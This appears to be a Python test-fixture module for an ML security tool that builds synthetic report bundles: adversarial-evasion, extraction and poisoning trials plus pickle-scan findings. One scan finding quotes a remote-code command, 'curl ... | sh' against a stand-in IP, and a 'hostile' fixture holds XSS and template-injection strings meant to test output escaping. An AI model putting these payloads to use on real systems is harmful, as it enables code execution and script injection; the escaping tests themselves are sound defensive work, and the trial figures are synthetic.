"""Whole bundles as workflows gather them, for the exporters to write."""

from __future__ import annotations

import io
import math
from datetime import UTC, datetime

import numpy as np

from casemate.export.report import Bundle
from casemate.records.column import Column
from casemate.records.evidence import Evidence
from casemate.records.finding import Finding
from casemate.records.fingerprint import fingerprint
from casemate.records.location import Location
from casemate.records.make import make
from casemate.records.run import Run
from casemate.records.severity import Confidence, Severity
from casemate.records.system import Component, System
from casemate.records.target import Target
from casemate.records.threat import Threat
from casemate.records.trial import Cost, Measure, Outcome, Series, Trial
from casemate.records.verdict import Verdict

MODEL = make(Target, kind="model", uri="torch:model.py:build", digest="sha256:" + "1" * 64)
DATA = make(Target, kind="dataset", uri="digits.npz", digest="sha256:" + "2" * 64)
STARTED = datetime(2026, 3, 4, 9, 30, tzinfo=UTC)
ENDED = datetime(2026, 3, 4, 9, 32, 30, tzinfo=UTC)


def run_record(**changes: object) -> Run:
    fields = {
        "id": "run-" + "0" * 26,
        "verb": "assess",
        "started": STARTED,
        "ended": ENDED,
        "state": "complete",
        "arguments": {"time": "5m", "device": "cpu"},
        "config_digest": "sha256:" + "3" * 64,
        "catalog_digest": "sha256:" + "4" * 64,
        "versions": {"casemate": "0.1.0", "python": "3.11.9", "torch": "2.13.0"},
        "seed": 7,
        "budget": "5m",
        "target": MODEL.uri,
    }
    return make(Run, **{**fields, **changes})


def share(name: str, hits: int, n: int) -> Measure:
    p, z = hits / n, 1.96
    middle = (p + z * z / (2 * n)) / (1 + z * z / n)
    half = z * math.sqrt(p * (1 - p) / n + z * z / (4 * n * n)) / (1 + z * z / n)
    low, high = max(0.0, middle - half), min(1.0, middle + half)
    return make(Measure, name=name, value=p, low=low, high=high, n=n)


def trial(
    attack: str,
    *,
    norm: str | None = "linf",
    eps: float | None = 0.1,
    n: int = 200,
    reach: float = 0.06,
    seed: int = 0,
    black_box: bool = False,
    blob: str | None = None,
    **changes: object,
) -> Trial:
    """An evasion trial whose distances scatter around `reach`."""
    rng = np.random.default_rng(seed)
    outcomes = []
    for index in range(n):
        clean = bool(rng.random() > 0.02)
        distance = float(reach * (0.5 + rng.gamma(4, 0.125)))
        success = not clean or eps is None or distance <= eps
        distance = 0.0 if not clean else (distance if eps is None else min(eps, distance * 1.4))
        label = int(rng.integers(10))
        outcomes.append(
            make(
                Outcome,
                index=index,
                label=label,
                clean=clean,
                success=success,
                distance=distance if success else None,
                adversarial_label=(label + 3) % 10 if success else None,
                queries=int(rng.gamma(3, 120)) if black_box else 0,
                forward=41,
                backward=0 if black_box else 40,
            )
        )
    right = sum(one.clean for one in outcomes)
    robust = sum(one.clean and not one.success for one in outcomes)
    fields = {
        "id": f"trial-{attack}-{norm}".ljust(32, "0"),
        "attack": attack,
        "family": "evasion",
        "target": MODEL,
        "data": DATA,
        "params": {"eps": eps, "norm": norm, "steps": 40} if eps else {"norm": norm, "steps": 100},
        "seed": 7,
        "budget": None,
        "norm": norm,
        "eps": eps,
        "inputs": n,
        "clean": share("accuracy", right, n),
        "robust": share("accuracy", robust, n),
        "cost": make(
            Cost,
            forward=41 * n,
            backward=0 if black_box else 40 * n,
            queries=sum(one.queries for one in outcomes),
            wall_s=3.2,
            cpu_s=6.1,
        ),
        "outcomes": tuple(outcomes),
        "measures": () if eps else (make(Measure, name="median-distance", value=reach, n=n),),
        "adversarial": blob,
    }
    return make(Trial, **{**fields, **changes})


def attack_finding(of: Trial, severity: Severity = Severity.IMPORTANT) -> Finding:
    return make(
        Finding,
        rule=of.attack,
        target=of.target,
        severity=severity,
        confidence=Confidence.CERTAIN,
        message=f"{of.attack} in {of.norm} takes accuracy from 98 % to 12 % within {of.eps}.",
        remedy="Train on adversarial inputs, then measure again.",
        fingerprint=fingerprint(of.attack, of.target.uri, None, str(of.norm)),
        subject=f"{of.attack} {of.norm}",
        trial=of.id,
    )


def npz(x: np.ndarray, adv: np.ndarray, index: np.ndarray | None = None) -> bytes:
    stream = io.BytesIO()
    index = np.arange(len(x)) if index is None else index
    np.savez_compressed(stream, index=index, x=x, adv=adv)
    return stream.getvalue()


def pictures(n: int = 200, seed: int = 0) -> np.ndarray:
    """Gray pictures (n, 1, 28, 28) in [0, 1]: a ring each, of its own size and place."""
    rng = np.random.default_rng(seed)
    rows, columns = np.mgrid[0:28, 0:28]
    out = np.empty((n, 1, 28, 28), np.float32)
    for i in range(n):
        y, x = rng.uniform(11, 17, 2)
        radius = np.hypot(rows - y, columns - x)
        out[i, 0] = np.exp(-(((radius - rng.uniform(4, 9)) / 1.6) ** 2))
    return out


def scan_part() -> tuple[list[Verdict], list[Finding]]:
    bad = make(Target, kind="artifact", uri="models/ranker.pkl", digest="sha256:" + "5" * 64)
    where = make(Location, path=bad.uri, member="archive/data.pkl", offset=1042)
    later = make(Location, path=bad.uri, member="archive/data.pkl", offset=1077)
    shell = make(
        Finding,
        rule="pickle-runs-shell",
        target=bad,
        severity=Severity.CRITICAL,
        confidence=Confidence.CERTAIN,
        message="Loading it runs a shell command: curl -s http://198.51.100.7/x | sh",
        remedy="Do not load it. Ask its author for a safetensors file and find out who changed it.",
        fingerprint=fingerprint("pickle-runs-shell", bad.uri, "archive/data.pkl", "os.system"),
        subject="os.system",
        location=where,
        evidence=(
            make(
                Evidence,
                by="pickle-runs-shell",
                how="pickle opcode walk",
                location=where,
                excerpt="from os import system",
            ),
            make(
                Evidence,
                by="pickle-runs-shell",
                how="pickle opcode walk",
                location=later,
                excerpt="system('curl -s http://198.51.100.7/x | sh')",
            ),
        ),
    )
    unknown = make(
        Finding,
        rule="pickle-unknown-import",
        target=bad,
        severity=Severity.MODERATE,
        confidence=Confidence.TENTATIVE,
        message="It imports acme.ranking.Ranker, which casemate does not know.",
        remedy="Read that class, then trust the file by digest with a reason.",
        fingerprint=fingerprint("pickle-unknown-import", bad.uri, None, "acme.ranking.Ranker"),
        subject="acme.ranking.Ranker",
        location=make(Location, path=bad.uri, member="archive/data.pkl", offset=12),
    )
    measures = {
        "format": "torch",
        "bytes": 48_211,
        "bytes_scanned": 2_211,
        "bytes_data": 46_000,
        "bytes_refused": 0,
    }
    verdicts = [
        make(
            Verdict,
            question="artifact-is-clean",
            answer="no",
            target=bad,
            reasons=("2 findings",),
            measures=measures,
            rests_on=(shell.fingerprint, unknown.fingerprint),
        ),
        make(
            Verdict,
            question="artifact-is-clean",
            answer="yes",
            target=make(Target, kind="artifact", uri="models/cnn.safetensors"),
            measures={**measures, "format": "safetensors"},
        ),
        make(
            Verdict,
            question="artifact-is-clean",
            answer="cannot-tell",
            target=make(Target, kind="artifact", uri="models/old.pt"),
            reasons=("incomplete: the archive ends inside member data/3",),
            measures={**measures, "bytes_refused": 1_024},
        ),
    ]
    return verdicts, [shell, unknown]


def image_bundle(**changes: object) -> Bundle:
    """An assess run: a scan, white-box and black-box attacks, extraction, poisoning, the gate."""
    x = pictures()
    rng = np.random.default_rng(1)
    adv = np.clip(x + rng.choice([-0.1, 0.1], x.shape), 0, 1).astype(np.float32)
    keep = {"sha256:" + "a" * 64: npz(x, adv)}
    digest = next(iter(keep))
    trials = [
        trial("evasion-pgd", reach=0.05, blob=digest),
        trial("evasion-apgd-ce", reach=0.045, seed=0, blob=digest),
        trial("evasion-fmn", eps=None, reach=0.05, blob=digest),
        trial("evasion-square", reach=0.08, black_box=True, blob=digest),
        trial("evasion-deepfool", norm="l2", eps=None, reach=1.1, blob=digest),
        trial("evasion-pgd", norm="l2", eps=1.5, reach=1.2, seed=0, blob=digest),
        trial(
            "extraction-surrogate",
            norm=None,
            eps=None,
            family="extraction",
            outcomes=(),
            robust=None,
            cost=make(Cost, forward=2000, queries=2000, wall_s=9.0, cpu_s=14.0),
            measures=(share("fidelity", 186, 200),),
            series=(
                make(
                    Series,
                    name="fidelity",
                    x_name="queries",
                    y_name="fidelity",
                    points=((100, 0.41), (250, 0.63), (500, 0.78), (1000, 0.88), (2000, 0.93)),
                ),
            ),
        ),
        trial(
            "poisoning-label-flip",
            norm=None,
            eps=None,
            family="poisoning",
            outcomes=(),
            robust=share("accuracy", 139, 200),
            cost=make(Cost, forward=0, wall_s=20.0, cpu_s=31.0),
            series=(
                make(
                    Series,
                    name="accuracy",
                    x_name="flip rate",
                    y_name="accuracy",
                    points=((0.0, 0.97), (0.05, 0.95), (0.1, 0.91), (0.2, 0.83), (0.3, 0.695)),
                ),
            ),
        ),
    ]
    verdicts, findings = scan_part()
    findings += [attack_finding(trials[1]), attack_finding(trials[5], Severity.MODERATE)]
    gate = make(
        Verdict,
        question="meets-the-bar",
        answer="no",
        target=MODEL,
        reasons=(
            f"critical pickle-runs-shell in models/ranker.pkl: {findings[0].message}",
            "no baseline is accepted yet, so regressions were not looked for",
        ),
        measures={"bar": "no-regressions"},
        rests_on=(findings[0].fingerprint,),
    )
    threats = (
        make(
            Threat,
            attack="adversarial-perturbation",
            component="digits",
            why="Its callers choose the whole input.",
            severity=Severity.IMPORTANT,
            covered_by=(trials[0].id,),
        ),
        make(
            Threat,
            attack="membership-inference",
            component="digits",
            why="It answers with scores to the public.",
            severity=Severity.MODERATE,
        ),
    )
    fields: dict[str, object] = {
        "run": run_record(notes=("Only 200 of 1,000 inputs were attacked, to fit 5m.",)),
        "verdicts": (*verdicts, gate),
        "findings": tuple(findings),
        "trials": tuple(trials),
        "threats": threats,
        "system": make(System, components=(make(Component, name="digits", kind="model"),)),
        "blob": keep.__getitem__,
        "waived": {findings[1].fingerprint: "Reviewed by Ana on 2 March; our own class."},
        "commands": {
            trials[1].id: "casemate attack torch:model.py:build --data digits.npz "
            "--attack evasion-apgd-ce --set eps=0.1 --seed 7",
            findings[0].fingerprint: "casemate scan models/ranker.pkl",
            findings[2].fingerprint: "casemate attack torch:model.py:build --data digits.npz "
            "--attack evasion-apgd-ce --set eps=0.1 --seed 7",
        },
        "classes": tuple("0123456789"),
    }
    return Bundle(**{**fields, **changes})  # type: ignore[arg-type]


def tabular_bundle() -> Bundle:
    """An assess run of a fraud model: recall at a fixed false-positive rate, rows as examples."""
    names = ("amount", "age of account (days)", "country risk", "is weekend", "merchant score")
    columns = tuple(
        make(Column, name=name, type="integer" if "days" in name else "float") for name in names
    )
    rng = np.random.default_rng(5)
    x = np.round(rng.uniform(0, 300, (60, 5)), 2)
    adv = x.copy()
    adv[:, 0] = np.round(x[:, 0] * 0.71, 2)
    adv[::2, 4] += 3.5
    digest = "sha256:" + "b" * 64
    found = trial(
        "evasion-tabular",
        norm="linf",
        eps=60.0,
        n=60,
        reach=31.0,
        black_box=True,
        blob=digest,
        clean=share("recall-at-fpr", 57, 60),
        robust=share("recall-at-fpr", 9, 60),
    )
    blobs = {digest: npz(x, adv)}
    return Bundle(
        run=run_record(target="sklearn:fraud.joblib"),
        findings=(attack_finding(found),),
        trials=(found,),
        blob=blobs.__getitem__,
        columns=columns,
        classes=("legitimate", "fraud"),
    )


EVIL = "<script>document.title='owned'</script><img src=x onerror=\"document.title='owned'\">"


def hostile_bundle() -> Bundle:
    """A scan of a file whose name, members and strings try to break every format."""
    name = f"models/{EVIL}'\"`|]]>&amp;\x1b[31m\x00\u202e@team {{{{7*7}}}}.pkl"
    target = make(Target, kind="artifact", uri=name)
    finding = make(
        Finding,
        rule="pickle-runs-shell",
        target=target,
        severity=Severity.CRITICAL,
        confidence=Confidence.CERTAIN,
        message=f"Runs {EVIL} ```\n# heading\n[x](javascript:alert(1)) | cell @team #1",
        remedy=f"Do not load {EVIL}",
        fingerprint=fingerprint("pickle-runs-shell", name, None, EVIL),
        subject=EVIL,
        location=make(Location, path=name, member=EVIL, offset=3),
        evidence=(make(Evidence, by="rule", how="walk", excerpt=f"</code></pre>{EVIL}"),),
    )
    verdict = make(
        Verdict,
        question="artifact-is-clean",
        answer="no",
        target=target,
        reasons=(EVIL,),
        measures={"format": EVIL},
    )
    return Bundle(
        run=run_record(verb="scan", target=EVIL, notes=(EVIL,), arguments={"paths": EVIL}),
        verdicts=(verdict,),
        findings=(finding,),
        commands={finding.fingerprint: f"casemate scan '{EVIL}'"},
    )
